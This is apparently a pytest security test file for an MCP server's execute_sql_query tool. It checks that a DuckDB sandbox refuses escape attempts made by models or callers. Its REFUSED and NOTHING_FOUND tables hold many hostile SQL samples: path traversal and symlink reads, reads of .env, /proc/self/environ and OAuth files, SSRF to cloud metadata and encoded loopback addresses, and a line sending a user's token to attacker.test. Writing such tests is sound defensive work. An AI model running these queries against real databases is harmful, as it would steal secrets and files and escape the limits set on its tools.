"""Ways out of the sandbox, tried through execute_sql_query, where models may only read and where they may write."""

from __future__ import annotations

import os
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from mxcp_flask.endpoints.catalogue import Catalogue
from mxcp_flask.endpoints.sql_tools import with_sql_tools
from mxcp_flask.engine import Database, DatabaseSettings, Secret
from mxcp_flask.errors import SqlFailed
from mxcp_flask.mcp import Caller, McpServer
from tests.engine.conftest import ANN, BOB
from tests.mcp.client import Client

HIDDEN = "hunter2-hidden"
TOKEN = ANN.external_token


@dataclass(frozen=True)
class Prison:
    """A project with something worth stealing in and around it, and what is open while somebody tries."""

    database: Database
    project: Path
    outside: Path

    def execute(self, sql: str) -> dict[str, Any]:
        """Return what execute_sql_query answers to Bob."""
        server = McpServer(with_sql_tools(Catalogue({})), self.database, name="prison", version="1")
        arguments = {"sql": sql.format(project=self.project, outside=self.outside)}
        answer = Client(server, Caller(BOB, scopes=None)).modern(
            "tools/call", {"name": "execute_sql_query", "arguments": arguments}
        )
        result: dict[str, Any] = answer.json["result"]
        return result


@pytest.fixture(params=[False, True], ids=["reads", "writes"])
def prison(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Prison]:
    """Return the prison, with a session of Ann's open in it that has a variable, a table and a secret of its own."""
    project, outside = tmp_path / "project", tmp_path / "outside"
    for folder in (project / "data", project / "plain", project / "state", project / ".git", outside):
        folder.mkdir(parents=True)
    for file in (
        *(project / name for name in (".env", ".git/config", "config.yml", "mxcp-site.yml", "state/oauth.db")),
        *(
            project / name
            for name in ("state/oauth.db-wal", "state/oauth.db-queue", "state/oauth.db.key", "state/audit.jsonl")
        ),
        *(outside / name for name in ("secret.txt", "secret.csv", "other.duckdb.txt")),
    ):
        file.write_text(f"a,b\n{HIDDEN},2\n")
    (project / "data" / "link.csv").symlink_to(outside / "secret.csv")
    (project / "data" / "folder").symlink_to(outside)
    (project / "data" / "state.csv").symlink_to(project / "state" / "oauth.db")
    for name in ("data", "plain"):
        (project / name / "open.csv").write_text("a,b\nopen,1\n")
    protected = [project / name for name in ("config.yml", "mxcp-site.yml", "state/oauth.db", "state/audit.jsonl")]
    database = Database(
        DatabaseSettings(
            project / "shop.duckdb",
            project_dir=project,
            protected=tuple(protected),
            provider_hosts=("api.github.com",),
            secrets=(Secret("store", "http", {"BEARER_TOKEN": HIDDEN}),),
            model_may_write=request.param,
        )
    )
    with database.session(ANN) as ann:
        ann.run(f"SET VARIABLE mine = '{HIDDEN}'; CREATE TEMP TABLE mine AS SELECT '{HIDDEN}' AS a", {})
        ann.run(f"CREATE TEMP MACRO mine() AS '{HIDDEN}'; CREATE TEMP VIEW seen AS SELECT '{HIDDEN}' AS a", {})
        yield Prison(database, project, outside)
    database.close()


REFUSED = {
    "absolute path": "FROM read_text('{outside}/secret.txt')",
    "replacement scan": "FROM '{outside}/secret.csv'",
    "replacement scan of a hidden file": "FROM read_csv('{project}/.env')",
    "dots": "FROM read_text('{project}/data/../../outside/secret.txt')",
    "dots inside": "FROM read_text('{project}/data/../.env')",
    "doubled slashes": "FROM read_text('{project}/data//..//..//outside/secret.txt')",
    "file URL": "FROM read_text('file://{outside}/secret.txt')",
    "link to a file": "FROM read_csv('{project}/data/link.csv')",
    "link to a folder": "FROM read_text('{project}/data/folder/secret.txt')",
    "link to what is protected": "FROM read_csv('{project}/data/state.csv')",
    "hidden file": "FROM read_text('{project}/.env')",
    "hidden folder": "FROM read_text('{project}/.git/config')",
    "configuration": "FROM read_text('{project}/config.yml')",
    "site file": "FROM read_text('{project}/mxcp-site.yml')",
    "OAuth database": "FROM read_blob('{project}/state/oauth.db')",
    "its journal": "FROM read_blob('{project}/state/oauth.db-wal')",
    "its queue": "FROM read_text('{project}/state/oauth.db-queue')",
    "its key": "FROM read_text('{project}/state/oauth.db.key')",
    "audit file": "FROM read_text('{project}/state/audit.jsonl')",
    "system file": "FROM read_text('/etc/hostname')",
    "environment of the process": "FROM read_blob('/proc/self/environ')",
    "file descriptors": "FROM read_blob('/proc/self/fd/3')",
    "reader by its full name": "FROM system.main.read_text('{outside}/secret.txt')",
    "parquet reader": "FROM read_parquet('{outside}/secret.txt')",
    "parquet metadata": "FROM parquet_metadata('{outside}/secret.txt')",
    "json reader": "FROM read_json('{outside}/secret.txt')",
    "csv sniffer": "FROM sniff_csv('{outside}/secret.csv')",
    "list of files": "FROM read_text(['{project}/data/open.csv', '{outside}/secret.txt'])",
    "path that is put together": "FROM read_text('{outside}' || '/secret.txt')",
    "through a subquery": "SELECT * FROM (FROM read_text('{outside}/secret.txt')) x",
    "ATTACH": "ATTACH '{outside}/new.duckdb' AS other",
    "ATTACH of SQLite": "ATTACH '{project}/state/oauth.db' (TYPE sqlite)",
    "DETACH": "DETACH shop",
    "USE": "USE system",
    "COPY to": "COPY (SELECT 1) TO '{outside}/out.csv'",
    "COPY from": "COPY mine FROM '{outside}/secret.csv'",
    "COPY inside WITH": "WITH x AS (COPY (SELECT 1) TO '{outside}/out.csv') SELECT 1",
    "EXPORT": "EXPORT DATABASE '{outside}/dump'",
    "IMPORT": "IMPORT DATABASE '{outside}'",
    "INSTALL": "INSTALL httpfs",
    "LOAD": "LOAD '{outside}/evil.duckdb_extension'",
    "SET": "SET enable_external_access = true",
    "SET GLOBAL": "SET GLOBAL allowed_directories = ['/']",
    "RESET": "RESET enable_external_access",
    "PRAGMA": "PRAGMA enable_profiling",
    "CALL": "CALL enable_logging('QueryLog')",
    "logging as a table": "FROM enable_logging('QueryLog')",
    "SET VARIABLE": "SET VARIABLE mxcp_token = 'x'",
    "CREATE SECRET": "CREATE SECRET s (TYPE http, BEARER_TOKEN 'x')",
    "DROP SECRET": "DROP SECRET store",
    "unredacted secrets": "FROM duckdb_secrets(redact = false)",
    "PREPARE": "PREPARE p AS SELECT 1",
    "EXECUTE": "EXECUTE p",
    "several statements": "SELECT 1; SELECT 2",
    "transaction": "COMMIT",
    "CHECKPOINT": "CHECKPOINT",
    "VACUUM": "VACUUM",
    "an extension's own files": "FROM sqlite_scan('{project}/state/oauth.db', 't')",
    "an extension's own connections": "SELECT http_get ('https://attacker.test/x')",
    "text as SQL": "FROM query('FROM read_text(''{outside}/secret.txt'')')",
    "serialized SQL": "FROM json_execute_serialized_sql('x')",
    "other people's table": "FROM mine",
    "other people's view": "FROM seen",
    "other people's macro": "SELECT mine()",
    "environment variable": "SELECT getenv('HOME')",
    "cloud metadata over http": "FROM read_text('http://169.254.169.254/latest/meta-data')",
    "cloud metadata over https": "FROM read_text('https://169.254.169.254/latest/meta-data')",
    "loopback": "FROM read_text('https://127.0.0.1/x')",
    "loopback by name": "FROM read_text('http://localhost:8000/x')",
    "loopback of IPv6": "FROM read_text('http://[::1]/x')",
    "loopback in decimal": "FROM read_text('https://2130706433/x')",
    "loopback in hex": "FROM read_text('https://0x7f000001/x')",
    "a host that is not listed": "FROM read_text('https://attacker.test/' || get_user_external_token())",
    "the provider's name before an at sign": "FROM read_text('https://api.github.com@attacker.test/x')",
    "the provider's name as a sub-domain": "FROM read_text('https://api.github.com.attacker.test/x')",
    "the provider without TLS": "FROM read_text('http://api.github.com/x')",
    "upper case": "FROM read_text('HTTPS://ATTACKER.TEST/x')",
    "our function": "SELECT mxcp_fetch('https://attacker.test/x', NULL)",
    "our function on a file": "FROM system.main.read_text(mxcp_fetch('{outside}/secret.txt', NULL))",
    "another reader's scheme": "FROM system.main.read_text('https://attacker.test/x')",
    "bucket": "FROM read_text('s3://bucket/x')",
    "writing a download": "WITH x AS (COPY (SELECT 1) TO 'mxcp://0') SELECT 1",
    "python's variables": "FROM prison",
}


@pytest.mark.parametrize("sql", [pytest.param(sql, id=name) for name, sql in REFUSED.items()])
def test_a_way_out_is_refused(prison: Prison, sql: str) -> None:
    """The tool must answer with an error, say nothing that was to be kept, and leave no file outside."""
    before = sorted(os.listdir(prison.outside))

    result = prison.execute(sql)

    assert result["isError"]
    assert HIDDEN not in str(result)
    assert BOB.external_token not in str(result)
    assert sorted(os.listdir(prison.outside)) == before


NOTHING_FOUND = {
    "globbing outside": "FROM glob('{outside}/*')",
    "globbing hidden files": "FROM glob('{project}/.*')",
    "globbing the state": "FROM read_text('{project}/state/*')",
    "globbing through links": "FROM glob('{project}/data/*/*')",
    "globbing everything": "FROM read_text('{project}/**')",
    "globbing the system": "FROM glob('/etc/*')",
    "listing downloads": "FROM glob('mxcp://*')",
    "reading all downloads": "FROM read_text('mxcp://*')",
    "guessing a download": "FROM read_text('mxcp://00000000000000000000000000000000')",
    "other people's variable": "SELECT getvariable('mine')",
    "other people's token": "SELECT * FROM duckdb_variables() WHERE value LIKE 'gho_%'",
    "secrets": "FROM duckdb_secrets()",
    "settings": "FROM duckdb_settings()",
    "temporary tables of others": "FROM duckdb_tables() WHERE sql LIKE '%hunter%' AND temporary",
    "temporary views of others": "FROM duckdb_views() WHERE sql LIKE '%hunter%' AND temporary",
    "macros of others": "FROM duckdb_functions() WHERE macro_definition LIKE '%hunter%'",
    "log of statements": "FROM duckdb_temporary_files()",
    "optimizer's statements": "EXPLAIN SELECT getvariable('mine')",
}


@pytest.mark.parametrize("sql", [pytest.param(sql, id=name) for name, sql in NOTHING_FOUND.items()])
def test_a_look_around_finds_nothing(prison: Prison, sql: str) -> None:
    """Whether or not the statement is answered, nothing that was to be kept may be in the answer."""
    told = str(prison.execute(sql))

    assert HIDDEN not in told
    assert TOKEN not in told
    assert "secret." not in told.replace(sql.format(project=prison.project, outside=prison.outside), "")


def test_what_is_the_projects_own_is_read(prison: Prison) -> None:
    """The sandbox must keep nobody from the project's data, in this folder and with a pattern."""
    with prison.database.session(BOB) as session:
        rows = session.run_single(f"SELECT a FROM read_csv('{prison.project}/data/open.csv')").rows
        found = session.run_single(f"FROM glob('{prison.project}/plain/o*.csv')").rows

    assert rows == [("open",)]
    assert found == [(f"{prison.project}/plain/open.csv",)]


def test_a_whole_folder_takes_new_files(tmp_path: Path) -> None:
    """Where nothing is hidden, an endpoint's SQL must write a file and read it again."""
    (tmp_path / "exports").mkdir()
    (tmp_path / "exports" / ".gitkeep").touch()
    database = Database(DatabaseSettings(tmp_path / "shop.duckdb", project_dir=tmp_path))
    with database.session(ANN) as session:
        session.run(f"COPY (SELECT 7 AS a) TO '{tmp_path}/exports/new.csv'", {})
        rows = session.run(f"FROM '{tmp_path}/exports/new.csv'", {}).rows
    database.close()

    assert rows == [(7,)]


def test_a_protected_file_that_comes_with_its_folder_is_not_seen(tmp_path: Path) -> None:
    """A protected file must stay out of reach when neither it nor its folder was there to be looked at."""
    later = tmp_path / "var" / "state" / "audit.jsonl"
    (tmp_path / "var").mkdir()
    database = Database(DatabaseSettings(tmp_path / "shop.duckdb", project_dir=tmp_path, protected=(later,)))
    database.check()
    later.parent.mkdir()
    later.write_text(HIDDEN)
    with database.session(BOB) as bob, pytest.raises(SqlFailed, match="Permission"):
        bob.run_single(f"FROM read_text('{later}')")
    database.close()


def test_what_an_endpoint_attaches_is_gone_for_the_next(tmp_path: Path) -> None:
    """An attached database, a temporary table and a variable must end with their request."""
    database = Database(DatabaseSettings(tmp_path / "shop.duckdb", project_dir=tmp_path))
    for _ in range(2):
        with database.session(ANN) as session:
            session.run("ATTACH ':memory:' AS side; USE side; CREATE TABLE t AS SELECT 1", {})
            session.run("SET VARIABLE v = 1; CREATE TEMP TABLE x AS SELECT 1", {})
    with database.session(BOB) as session:
        names = session.run("SELECT database_name FROM duckdb_databases() WHERE NOT internal", {}).rows
        variable = session.run("SELECT getvariable('v'), current_database()", {}).rows
    database.close()

    assert names == [("shop",)]
    assert variable == [(None, "shop")]


def test_what_is_protected_may_come_later(tmp_path: Path) -> None:
    """A protected file that is made while the server runs must be as closed as one that was there."""
    (tmp_path / "state").mkdir()
    protected = tmp_path / "state" / "audit.jsonl"
    database = Database(DatabaseSettings(tmp_path / "shop.duckdb", project_dir=tmp_path, protected=(protected,)))
    database.check()
    protected.write_text(HIDDEN)
    with database.session(ANN) as session, pytest.raises(SqlFailed, match="Cannot access file"):
        session.run(f"FROM read_text('{protected}')", {})
    database.close()


def test_links_are_not_followed_even_by_patterns(tmp_path: Path) -> None:
    """A folder with a link must show its own files, and no name from beyond the link."""
    for folder in ("project/data", "outside"):
        (tmp_path / folder).mkdir(parents=True)
    (tmp_path / "outside" / "name.csv").write_text("a")
    (tmp_path / "project" / "data" / "open.csv").write_text("a\n7\n")
    (tmp_path / "project" / "data" / "link").symlink_to(tmp_path / "outside")
    database = Database(DatabaseSettings(tmp_path / "shop.duckdb", project_dir=tmp_path / "project"))
    with database.session(ANN) as session:
        assert session.run(f"FROM read_csv('{tmp_path}/project/data/open.csv')", {}).rows == [(7,)]
        with pytest.raises(SqlFailed, match="Cannot access file"):
            session.run(f"FROM glob('{tmp_path}/project/data/*/*')", {})
    database.close()


def test_attached_databases_of_others_stay(tmp_path: Path) -> None:
    """A session must detach at its end what it attached itself, not what another one attached meanwhile."""
    database = Database(DatabaseSettings(tmp_path / "shop.duckdb", project_dir=tmp_path))
    with database.session(BOB) as bob:
        with database.session(ANN) as ann:
            ann.run("ATTACH ':memory:' AS of_ann", {})
            bob.run("ATTACH ':memory:' AS of_bob", {})
        assert bob.run("CREATE TABLE of_bob.t AS SELECT 1 AS a; FROM of_bob.t", {}).rows == [(1,)]
        names = bob.run("SELECT database_name FROM duckdb_databases() WHERE NOT internal ORDER BY 1", {}).rows
    database.close()

    assert names == [("of_bob",), ("shop",)]


def test_what_others_spill_is_not_readable(tmp_path: Path) -> None:
    """Temporary data that no longer fits into memory must not be found in the files that it is written to."""
    database = Database(DatabaseSettings(tmp_path / "shop.duckdb", project_dir=tmp_path, memory_limit="40MB"))
    with database.session(ANN) as ann, database.session(BOB) as bob:
        ann.run(f"CREATE TEMP TABLE big AS SELECT '{HIDDEN}' || md5(i::VARCHAR) AS a FROM range(1000000) r(i)", {})
        spilled = [path for path in (tmp_path / "shop.duckdb.tmp").iterdir() if path.stat().st_size]
        assert spilled
        assert [path.name for path in spilled if HIDDEN.encode() in path.read_bytes()] == []
        assert bob.run("SELECT count(*) FROM range(10)", {}).rows == [(10,)]
    database.close()
